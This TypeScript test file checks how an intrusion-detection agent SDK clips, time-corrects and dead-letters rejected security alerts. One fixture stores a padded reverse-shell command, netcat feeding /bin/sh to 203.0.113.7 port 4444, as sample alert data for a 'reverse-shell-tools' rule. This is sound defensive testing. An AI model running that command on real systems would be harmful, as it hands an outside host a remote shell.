// Nothing is dropped for a property that can be fixed: a padded reverse-shell alert over the
// server's MAX_EVENT_DETAIL_BYTES is stored clipped (the agent's marks and the server's merged),
// an alert from a fast clock is stored at the server's time with its own kept. (An older server
// refused both; the agent then fixes and resends them: see command-handler.ts.) A CRITICAL alert
// that is truly malformed ends in the dead-letter file, and an alert says so.
import { readFile } from 'node:fs/promises';
import { join } from 'node:path';
import {
  DEAD_LETTER_FILE,
  DEAD_LETTER_RULE_NAME,
  type DeadLetterEntry,
  Outbox,
} from '@tripwire/agent-sdk';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import {
  captureLog,
  draft,
  ENROLLMENT_TOKEN,
  type RunningIngest,
  startIngest,
  storedAlertIds,
  until,
  useAgents,
  useEnvironment,
} from './agent-harness.js';

const env = useEnvironment();
const agents = useAgents();
let ingest: RunningIngest;
const DETAIL_LIMIT = 4096;

beforeAll(async () => {
  // A server that keeps at most 4 KiB of detail, far below what the agent clips to by itself.
  ingest = await startIngest(env, {
    MAX_EVENT_DETAIL_BYTES: String(DETAIL_LIMIT),
    PING_INTERVAL_MS: '100',
  });
});
afterAll(() => ingest?.stop());

async function detailOf(alertId: string) {
  const { rows } = await env.pool.query<{
    event_detail: Record<string, unknown>;
    occurred_at: Date;
    rule_name: string;
  }>('SELECT event_detail, occurred_at, rule_name FROM alerts WHERE alert_id = $1', [alertId]);
  return rows[0];
}

describe('rejections the agent can fix', () => {
  it('a padded reverse-shell alert over the server limit is stored clipped and marked; nothing dropped', async () => {
    const logs = captureLog('agent');
    const client = agents.create({
      server: ingest.address,
      stateDir: await agents.stateDir(),
      enrollmentToken: ENROLLMENT_TOKEN,
      hostname: 'sdk-clip-01',
      log: logs.log,
    });
    await client.start();
    const cmdline = `nc -e /bin/sh 203.0.113.7 4444 ${'A'.repeat(70_000)}`;
    const padded = await client.enqueue(
      draft(1, { tripwireType: 'PROCESS', ruleName: 'reverse-shell-tools', detail: { cmdline } }),
    );
    expect(await client.flush(15_000)).toBe(true);
    expect(await storedAlertIds(env, [padded])).toEqual([padded]);
    const row = await detailOf(padded);
    const stored = row!.event_detail as { cmdline: string; truncated: Record<string, number> };
    expect(stored.cmdline.startsWith('nc -e /bin/sh 203.0.113.7 4444 AAAA')).toBe(true);
    expect(Buffer.byteLength(JSON.stringify(stored))).toBeLessThanOrEqual(DETAIL_LIMIT);
    expect(stored.truncated).toMatchObject({
      cmdline: Buffer.byteLength(cmdline),
      event_detail_bytes: expect.any(Number),
    });
    expect(client.stats()).toMatchObject({ queued: 0, acked: 1, rejected: 0, deadLettered: 0 });
  });

  it('an alert from a clock a day fast is stored with the server-corrected time and its own kept', async () => {
    const client = agents.create({
      server: ingest.address,
      stateDir: await agents.stateDir(),
      enrollmentToken: ENROLLMENT_TOKEN,
      hostname: 'sdk-clock-01',
    });
    await client.start();
    const fast = new Date(Date.now() + 86_400_000);
    const future = await client.enqueue(draft(1, { occurredAt: fast }));
    expect(await client.flush(15_000)).toBe(true);
    const row = await detailOf(future);
    expect(row).toBeDefined();
    expect(row!.event_detail).toMatchObject({ agent_timestamp_us: fast.getTime() * 1000 });
    // Stored at (about) the server's time, not a day ahead.
    expect(row!.occurred_at.getTime()).toBeLessThan(Date.now() + 60_000);
    expect(client.stats()).toMatchObject({ queued: 0, acked: 1, rejected: 0 });
  });

  it('a CRITICAL alert whose detail nests 70 deep is stored as text (marked), not dead-lettered', async () => {
    const stateDir = await agents.stateDir();
    const client = agents.create({
      server: ingest.address,
      stateDir,
      enrollmentToken: ENROLLMENT_TOKEN,
      hostname: 'sdk-deep-01',
    });
    await client.start();
    let deep: Record<string, unknown> = { leaf: 'rootkit' };
    for (let i = 0; i < 70; i++) deep = { d: deep };
    const id = await client.enqueue(draft(1, { detail: deep }));
    expect(await client.flush(15_000)).toBe(true);
    expect(await storedAlertIds(env, [id])).toEqual([id]);
    const stored = (await detailOf(id))!.event_detail as {
      detail_head: string;
      truncated: { detail: number };
    };
    expect(stored.detail_head.startsWith('{"d":{"d":')).toBe(true);
    expect(stored.truncated.detail).toBe(Buffer.byteLength(JSON.stringify(deep)));
    expect(client.stats()).toMatchObject({
      queued: 0,
      acked: 1,
      fixed: 1,
      deadLettered: 0,
      rejectedByCode: {},
    });
    // Still serving: a plain alert after it is stored too.
    const after = await client.enqueue(draft(2));
    expect(await client.flush(15_000)).toBe(true);
    expect(await storedAlertIds(env, [after])).toEqual([after]);
  });
});

describe('a CRITICAL alert the agent cannot fix', () => {
  it('goes to the dead-letter file and an alert about it reaches the server', async () => {
    const stateDir = await agents.stateDir();
    const first = agents.create({
      server: ingest.address,
      stateDir,
      enrollmentToken: ENROLLMENT_TOKEN,
      hostname: 'sdk-dead-01',
    });
    await first.start();
    await first.stop();
    // A record no SDK call would write (an unknown tripwire type), as a corrupt or foreign
    // outbox could hold: the server refuses it as INVALID_TRIPWIRE_TYPE, which nothing fixes.
    const outbox = await Outbox.open({ path: join(stateDir, 'outbox.log') });
    const badId = '0b5e6f0e-7d1a-4b8e-9a51-5c3f5f3f0d13';
    await outbox.append({
      alertId: badId,
      tripwireType: 'KERNEL' as 'FILE',
      severity: 'CRITICAL',
      ruleName: 'kernel-module',
      timestampUs: Date.now() * 1000,
      detailJson: '{"module":"rootkit"}',
    });
    await outbox.close();

    const logs = captureLog('agent');
    const client = agents.create({ server: ingest.address, stateDir, log: logs.log });
    await client.start();
    expect(await client.flush(15_000)).toBe(true);
    expect(client.stats()).toMatchObject({
      queued: 0,
      rejected: 1,
      deadLettered: 1,
      rejectedByCode: { REJECT_CODE_INVALID_TRIPWIRE_TYPE: 1 },
    });

    const lines = (await readFile(join(stateDir, DEAD_LETTER_FILE), 'utf8')).trim().split('\n');
    const letters = lines.map((l) => JSON.parse(l) as DeadLetterEntry);
    expect(letters).toEqual([
      expect.objectContaining({
        code: 'REJECT_CODE_INVALID_TRIPWIRE_TYPE',
        alert: expect.objectContaining({
          alert_id: badId,
          rule_name: 'kernel-module',
          event_detail_json: '{"module":"rootkit"}',
        }),
      }),
    ]);
    const { rows } = await env.pool.query<{
      severity: string;
      event_detail: Record<string, unknown>;
    }>('SELECT severity, event_detail FROM alerts WHERE host_id = $1 AND rule_name = $2', [
      client.hostId,
      DEAD_LETTER_RULE_NAME,
    ]);
    expect(rows).toEqual([
      {
        severity: 'CRITICAL',
        event_detail: expect.objectContaining({
          rejected_alert_id: badId,
          code: 'REJECT_CODE_INVALID_TRIPWIRE_TYPE',
          rule_name: 'kernel-module',
          dead_letter_file: join(stateDir, DEAD_LETTER_FILE),
        }),
      },
    ]);
    // The agent still works: a valid alert after it is stored.
    const good = await client.enqueue(draft(9));
    expect(await client.flush(15_000)).toBe(true);
    expect(await storedAlertIds(env, [good])).toEqual([good]);
    await until(() => logs.text().includes('kept it in the dead-letter file'));
  });
});

describe('a full dead-letter file', () => {
  it('reports the older letters its rotation discards in a CRITICAL dead-letter alert', async () => {
    const stateDir = await agents.stateDir();
    const first = agents.create({
      server: ingest.address,
      stateDir,
      enrollmentToken: ENROLLMENT_TOKEN,
      hostname: 'sdk-dead-rotate-01',
    });
    await first.start();
    await first.stop();
    // Three unfixable CRITICAL records; a 1-byte file rotates at every letter, so the third
    // letter's rotation replaces the `.1` that holds the first.
    const outbox = await Outbox.open({ path: join(stateDir, 'outbox.log') });
    for (const n of [1, 2, 3])
      await outbox.append({
        alertId: `0b5e6f0e-7d1a-4b8e-9a51-5c3f5f3f0d2${n}`,
        tripwireType: 'KERNEL' as 'FILE',
        severity: 'CRITICAL',
        ruleName: 'kernel-module',
        timestampUs: Date.now() * 1000,
        detailJson: `{"module":"rootkit-${n}"}`,
      });
    await outbox.close();

    const client = agents.create({ server: ingest.address, stateDir, deadLetterMaxBytes: 1 });
    await client.start();
    expect(await client.flush(15_000)).toBe(true);
    expect(client.stats()).toMatchObject({ deadLettered: 3, deadLettersDiscarded: 1 });
    const { rows } = await env.pool.query<{ event_detail: { discarded_letters: number } }>(
      `SELECT a.event_detail FROM alerts a JOIN hosts h ON h.host_id = a.host_id
        WHERE h.hostname = 'sdk-dead-rotate-01' AND a.rule_name = $1 AND a.severity = 'CRITICAL'`,
      [DEAD_LETTER_RULE_NAME],
    );
    expect(rows.map((r) => r.event_detail.discarded_letters).sort()).toEqual([0, 0, 1]);
    // The newest two letters are still on disk.
    const kept = await readFile(join(stateDir, `${DEAD_LETTER_FILE}.1`), 'utf8');
    expect(kept).toContain('rootkit-2');
  });
});
